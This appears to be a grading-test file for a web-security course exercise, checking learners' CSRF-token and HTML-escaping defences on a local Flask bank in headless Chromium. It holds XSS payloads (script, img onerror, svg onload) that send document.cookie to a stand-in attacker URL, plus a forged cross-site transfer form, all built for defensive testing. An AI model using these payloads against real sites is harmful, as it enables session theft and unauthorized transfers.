"""Checks for lesson 06's exercise notebook: the checks attack the learner's bank in Chromium.

Each check serves the course's exercise bank (course.lessons.browser.exercise_bank)
with the learner's functions on 127.0.0.1, visits it as http://localhost:P in
headless Chromium, and attacks it from the course's attacker site
(http://127.0.0.1:Q, another site): the attack must fail and the legitimate use
must still work. Each exercise is checked on its own: 06.1 runs with the
course's escaped search page, 06.2 with the course's CSRF defence.
"""

from __future__ import annotations

import random
from contextlib import contextmanager
from typing import Callable, Iterator
from urllib.parse import urlencode

from flask import abort, request
from markupsafe import escape
from werkzeug.exceptions import HTTPException

from course.checks import exercise, needs
from course.checks._support import random_word
from course.lessons.browser import open_browser, start_attacker_site
from course.lessons.browser.exercise_bank import RunningBank, create_exercise_bank, serve_exercise_bank
from course.lessons.browser.probes import (
    NOTHING_CAME_SECONDS,
    click_forged_link,
    log_in,
    submit_forged_form,
    wait_for_loot,
)
from course.lessons.browser.thread import Remote
from demo_server import DEMO_USERS

ALICE = ("alice", DEMO_USERS["alice"])
BOB = ("bob", DEMO_USERS["bob"])


# --- the course's own halves, so each exercise is checked on its own -------------------


def course_transfer_form(user: str) -> str:
    return "<form method=post action=/transfer><input name=to> <input name=amount> <button id=send>Send</button></form>"


def course_check_transfer_request() -> None:
    if request.headers.get("Sec-Fetch-Site", "same-origin") != "same-origin":
        abort(403)


def course_search_results(query: str) -> str:
    return f"<p>Results for <b>{escape(query)}</b>.</p>"


# --- helpers the hidden tests share ---------------------------------------------


def learner_code_runs(transfer_form: Callable, check_transfer_request: Callable, search_results: Callable) -> None:
    """Call the learner's functions once outside the browser, so an unfinished one says so."""
    app = create_exercise_bank(transfer_form, check_transfer_request, search_results)
    with app.test_request_context("/", method="GET"):
        html = transfer_form("alice")
    assert isinstance(html, str), f"transfer_form() returns a str of HTML, not {type(html).__name__}"
    with app.test_request_context("/transfer", method="POST", data={"to": "bob", "amount": "1"}):
        try:
            check_transfer_request()
        except HTTPException:
            pass  # refusing a request without a token is right
    with app.test_request_context("/search?q=x"):
        html = search_results("x")
    assert isinstance(html, str), f"search_results() returns a str of HTML, not {type(html).__name__}"


@contextmanager
def bank_for(transfer_form: Callable, check_transfer_request: Callable, search_results: Callable) -> Iterator[tuple]:
    """(the running bank, Alice's logged-in tab, the attacker site); everything is closed after."""
    learner_code_runs(transfer_form, check_transfer_request, search_results)
    browser = open_browser()
    attacker = start_attacker_site()
    with serve_exercise_bank(transfer_form, check_transfer_request, search_results) as bank:
        tab = browser.new_window()
        try:
            log_in(tab, bank.url, *ALICE, path="/login")
            yield bank, tab, attacker
        finally:
            tab.context.close()


def forged_transfer(bank: RunningBank, tab: Remote, attacker, *, site: str | None = None, **extra: str) -> None:
    """Another site's page posts a transfer to mallory; it must arrive with Alice's session and move nothing."""
    amount = str(random.randint(100, 999))
    answer = submit_forged_form(tab, attacker, f"{bank.url}/transfer", site=site, to="mallory", amount=amount, **extra)
    arrived = bank.ledger.find(amount)
    assert arrived, "the forged form never reached /transfer (did the bank's routes change?)"
    assert arrived[-1].user == "alice", (
        "the forged request arrived without Alice's session: keep the bank's cookie settings as they are "
        "(SameSite=None), the exercise is to defend the form itself"
    )
    assert not arrived[-1].moved, f"a form on another site ({site or attacker.url}) moved money from Alice's account"
    assert 400 <= answer.status < 500, f"refuse a forged transfer with a 4xx (abort(403)), not a {answer.status}"


def legitimate_transfer(bank: RunningBank, tab: Remote) -> None:
    """Alice sends money with the form on her own account page; it must work."""
    amount = str(random.randint(100, 999))
    tab.goto(f"{bank.url}/")
    form = tab.locator("form:has(input[name=amount])")
    assert form.count() == 1, "the account page needs one <form method=post action=/transfer> with the fields"
    for name, value in (("to", "bob"), ("amount", amount)):
        field = form.locator(f"input[name={name}]")
        assert field.count() == 1, f"the form needs an <input name={name}>"
        field.fill(value)
    with tab.expect_navigation() as navigation:
        form.evaluate("form => form.requestSubmit()")
    arrived = bank.ledger.find(amount)
    assert arrived and arrived[-1].moved, (
        f"Alice's own form did not move money: your bank answered {navigation.value.status} "
        f"({tab.inner_text('body')[-200:].strip()!r})"
    )


def xss_script(marker: str, attacker_url: str) -> str:
    """What an injected script does: mark the page (seen at once, whatever the timing) and send cookies home."""
    return (
        f"top.document.documentElement.dataset.xss='{marker}';"
        f"new Image().src='{attacker_url}/steal?xss={marker}&c='+encodeURIComponent(document.cookie)"
    )


def script_payloads(marker: str, attacker_url: str) -> list[str]:
    script = xss_script(marker, attacker_url)
    return [
        f"<script>{script}</script>",
        f'<img src=x onerror="{script}">',
        f'</b><svg onload="{script}">',
    ]


def attack_search(bank: RunningBank, tab: Remote, attacker, payloads: list[str]) -> None:
    """Alice clicks links to the search page with scripts in the query; none may run.

    Every payload's script marks the page before it sends anything, and the page's load event
    (which each click waits for) comes after its scripts: a script that ran is seen at once. What
    a script sends home may arrive a little later, so that is waited for once, after every link."""
    before = len(attacker.loot)
    for payload in payloads:
        seen = len(attacker.loot)
        click_forged_link(tab, attacker, f"{bank.url}/search?{urlencode({'q': payload})}")
        if tab.evaluate("document.documentElement.dataset.xss || null") is not None:
            stolen = wait_for_loot(attacker, seen, timeout=NOTHING_CAME_SECONDS)
            raise AssertionError(
                f"the query {payload!r} ran as a script in the search page"
                + (" and sent Alice's cookies to the attacker" if stolen else "")
            )
    stolen = wait_for_loot(attacker, before, timeout=NOTHING_CAME_SECONDS)
    assert not stolen, (
        "a script in the search page sent Alice's cookies to the attacker, after one of the queries "
        + ", ".join(repr(payload) for payload in payloads)
    )


def shown_as_typed(bank: RunningBank, tab: Remote, query: str) -> None:
    tab.goto(f"{bank.url}/search?{urlencode({'q': query})}")
    text = tab.inner_text("body")
    assert query in text, f"searching for {query!r} must show it exactly as typed; the page shows {text[-200:]!r}"


# --- the exercises -----------------------------------------------------------------


@exercise(
    "06.1",
    "Protect the transfer form against CSRF",
    hint="In transfer_form, put a hidden <input name=csrf_token> whose value you also keep in the session "
    "(session.setdefault('csrf_token', secrets.token_urlsafe(32))); in check_transfer_request, abort(403) unless "
    "request.form['csrf_token'] matches it (hmac.compare_digest). Or check that Sec-Fetch-Site is 'same-origin'.",
)
def csrf_protected_transfer(ns):
    transfer_form, check_transfer_request = needs(ns, "transfer_form", "check_transfer_request")
    with bank_for(transfer_form, check_transfer_request, course_search_results) as (bank, tab, attacker):
        forged_transfer(bank, tab, attacker)
        legitimate_transfer(bank, tab)


@exercise(
    "06.2",
    "Escape the search results",
    hint="Put the query into the HTML escaped: markupsafe.escape(query) (or html.escape), never as it came.",
)
def escaped_search(ns):
    (search_results,) = needs(ns, "search_results")
    with bank_for(course_transfer_form, course_check_transfer_request, search_results) as (bank, tab, attacker):
        attack_search(bank, tab, attacker, script_payloads(random_word("x"), attacker.url))
        shown_as_typed(bank, tab, f"Tom & Jerry <3 {random_word('q')}")
